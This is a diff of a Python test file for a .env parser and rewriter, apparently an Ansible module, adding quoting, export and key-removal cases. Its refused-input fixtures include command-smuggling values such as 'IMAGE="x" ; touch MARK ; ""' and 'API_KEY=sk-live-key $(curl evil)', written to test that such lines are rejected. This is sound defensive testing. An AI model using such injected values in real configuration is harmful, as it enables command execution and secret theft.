@@ -90,6 +90,10 @@ ACCEPTED = [
     ("tab inside quotes", "A='a\tb'\nB=\"c\td\"\n"),
     ("unicode line separators are not line ends", "A='a\u2028b'\nB=c\u2029d\nC=\x85e\n"),
     ("carriage return inside a value", "A=x\\\r\nB='y\r'\n"),
+    ("ansi-c quoting", "A=$'x\\ty\\'z'\nB=$'\\x41\\101\\q'\nC=$'a\nb'\nD=x$'\\e'y\nE=${U:-$'\\t'}\n"),
+    ("export expands its arguments before assigning", "A=1\nexport A=2 B=$A C=${A:-u}\n"),
+    ("trailing backslash after a multi-line single quote (bash drops it)", "A='x\ny'\\"),
+    ("trailing backslash after a multi-line double quote (bash keeps it)", 'A="x\ny"\\'),
 ]
 
 
@@ -116,7 +120,12 @@ REFUSED = [
     ("redirection", "A=x >MARK\n", "'>' is a shell operator"),
     ("subshell", "(touch MARK)\n", "'(' is a shell operator"),
     ("the old template's double-quoted payload", 'IMAGE="x" ; touch MARK ; ""\n', "a command word"),
-    ("ansi-c quoting", "A=$'x\\n'\n", "$'...' quoting is not supported"),
+    ("ansi-c NUL", "A=$'x\\0y'\n", "a NUL byte (bash ends the value there)"),
+    ("ansi-c beyond ascii", "A=$'\\u00e9'\n", "depend on bash's locale"),
+    ("ansi-c control escape", "A=$'\\cA'\n", "\\c control escape"),
+    ("ansi-c inside a quoted default", "A=\"${U:-$'x'}\"\n", "extquote"),
+    ("legacy arithmetic", "A=$[1+2]\n", "$[ ... ] is arithmetic expansion"),
+    ("bare export prints", "export\n", "'export' with no name prints"),
     ("positional parameter", "A=$1\n", "$1 is a special parameter"),
     ("pid", "A=$$\n", "$$ is a special parameter"),
     ("shell variable", "A=$RANDOM\n", "$RANDOM is the shell's own variable"),
@@ -357,8 +366,11 @@ def test_rollback_twice_equals_once_and_restores_bytes_mode(tmp_path):
     os.chmod(str(env), 0o640)
     original = state(env)
     E.converge_env(str(env), SETTINGS, api_key="sk-1111", run_id="r1")
+    after_r1 = env.read_bytes()
+    # in place: the managed header added, the comment kept, the changed keys written where they were
+    assert after_r1 == (E.render_env({}, header=E.DEFAULT_HEADER) + "# hand-written\r\nMODEL_PATH=/srv/models/x\n"
+                        "API_KEY=sk-1111\nDSPARK_BLOCK_SIZE=3\n").encode()
     E.converge_env(str(env), dict(SETTINGS, DSPARK_BLOCK_SIZE=5), api_key="sk-1111", run_id="r2")
-    after_r1 = E.render_env(SETTINGS, "sk-1111").encode()
     listing = files(tmp_path)
     record = (tmp_path / ".env.dsv41-backups.json").read_bytes()
 
@@ -425,11 +437,16 @@ def test_symlinked_env_is_refused(tmp_path):
     assert target.read_text() == "A=0\n"
 
 
-def test_current_file_that_is_code_is_reported_without_secrets(tmp_path):
+def test_current_file_that_is_code_is_refused_without_secrets(tmp_path):
+    """Rewriting a file that is not data would drop what it sets: refused, naming the line, nothing written."""
     env = tmp_path / ".env"
     env.write_text("A=1\nAPI_KEY=sk-live-key $(curl evil)\n")
-    res = E.converge_env(str(env), {"A": "1"}, api_key="sk-live-key", run_id="r", check_mode=True)
-    assert res["changed"] and "line 2" in res["changes"][0] and "sk-live-key" not in json.dumps(res)
+    for check in (True, False):
+        with pytest.raises(E.EnvError) as exc:
+            E.converge_env(str(env), {"A": "1"}, api_key="sk-live-key", run_id="r", check_mode=check)
+        assert "line 2" in str(exc.value) and "nothing written" in str(exc.value)
+        assert "sk-live-key" not in str(exc.value)
+    assert files(tmp_path) == [".env"]
 
 
 def test_bad_run_id_is_refused(tmp_path):
@@ -490,3 +507,34 @@ def test_module_check_mode(monkeypatch, capsys, tmp_path):
     assert res["changed"] and res["diff"]["before"] == "A=0\n" and res["diff"]["after"] == "A=1\n"
     assert files(tmp_path) == [".env"] and env.read_text() == "A=0\n"
     assert SECRET_MASK not in res["diff"]["after"]
+
+
+def test_module_keeps_undeclared_keys_and_removes_only_listed_ones(monkeypatch, capsys, tmp_path):
+    env = tmp_path / ".env"
+    original = "# site\nexport HEAD_IP=\"10.0.0.1\"  # data plane\nA=0\nNCCL_SOCKET_IFNAME=enp1s0\n"
+    env.write_text(original)
+    res = module(monkeypatch, capsys, path=str(env), settings={"A": "1"}, run_id="r1", _ansible_check_mode=True)
+    assert res["changed"] and res["kept_undeclared"] == ["HEAD_IP", "NCCL_SOCKET_IFNAME"] and env.read_text() == original
+    res = module(monkeypatch, capsys, path=str(env), settings={"A": "1"}, run_id="r1")
+    assert res["changes"] == ["A: 0 -> 1"] and res["kept_undeclared"] == ["HEAD_IP", "NCCL_SOCKET_IFNAME"]
+    assert env.read_text() == E.render_env({}) + original.replace("A=0", "A=1")
+    res = module(monkeypatch, capsys, path=str(env), settings={"A": "1"}, remove_keys=["NCCL_SOCKET_IFNAME"],
+                 run_id="r2")
+    assert res["changes"] == ["NCCL_SOCKET_IFNAME: enp1s0 -> (unset)"] and res["removed"] == ["NCCL_SOCKET_IFNAME"]
+    assert "NCCL_SOCKET_IFNAME" not in env.read_text() and 'export HEAD_IP="10.0.0.1"  # data plane' in env.read_text()
+    again = module(monkeypatch, capsys, path=str(env), settings={"A": "1"}, remove_keys=["NCCL_SOCKET_IFNAME"],
+                   run_id="r3")
+    assert not again["changed"] and again["kept_undeclared"] == ["HEAD_IP"]
+    res = module(monkeypatch, capsys, path=str(env), settings={"A": "1"}, remove_keys=["A"], run_id="r4")
+    assert res["failed"] and "A is both declared and listed for removal" in res["msg"]
+
+
+def test_changes_show_control_characters_escaped(tmp_path):
+    """A CRLF file gives every value a carriage return (bash keeps it): the report shows it as $'...\\r',
+    which bash reads back as the same value, never as a raw control character."""
+    env = tmp_path / ".env"
+    env.write_bytes(b"A=1\r\nB=x\r\n")
+    res = E.converge_env(str(env), {"A": "1"}, run_id="r", check_mode=True)
+    assert res["changes"] == ["A: $'1\\r' -> 1"] and res["kept_undeclared"] == ["B"]
+    assert "B=$'x\\r'\n" in res["diff"]["after"]
+    assert E.parse_env("A=" + E.shown_word("x'\\\n\x1b\r\t")) == {"A": "x'\\\n\x1b\r\t"}
